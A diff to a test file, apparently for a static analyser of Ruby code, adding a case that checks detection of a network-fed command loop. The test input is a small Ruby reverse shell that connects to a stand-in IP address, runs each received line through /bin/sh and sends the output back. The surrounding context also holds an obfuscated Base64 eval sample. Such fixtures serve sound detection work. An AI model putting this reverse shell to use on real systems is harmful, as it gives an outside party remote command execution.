@@ -580,6 +580,21 @@ eval(Base64.decode64("${Buffer.from('system("id")').toString('base64')}"))
       expect(find(es, 'exec', (e) => e.line === 7 && !e.decoded)?.origin).toBe('decoded');
       expect(find(es, 'exec', (e) => e.line === 7 && !!e.decoded)?.command).toBe('id');
     });
+
+    it('a socket read loop run by a shell is code fetched from the socket’s host (and `while (x = …)` lowers at all)', () => {
+      const es = rb(`require 'socket'
+require 'open3'
+s = TCPSocket.new([198, 51, 100, 23].join("."), 4443)
+while (line = s.gets)
+  o, _ = Open3.capture2e("/bin/sh", "-c", line.chomp)
+  s.write(o)
+end
+`);
+      expect(find(es, 'fetch')).toMatchObject({ host: '198.51.100.23', hostClass: 'raw-ip', line: 4 });
+      expect(find(es, 'exec')).toMatchObject({ origin: 'downloaded', line: 5 });
+      expect(flows(es, (e) => e.kind === 'fetch', (e) => e.kind === 'exec')).toBe(true);
+      expect(find(es, 'send')?.line).toBe(6);
+    });
   });
 
   describe('robustness', () => {
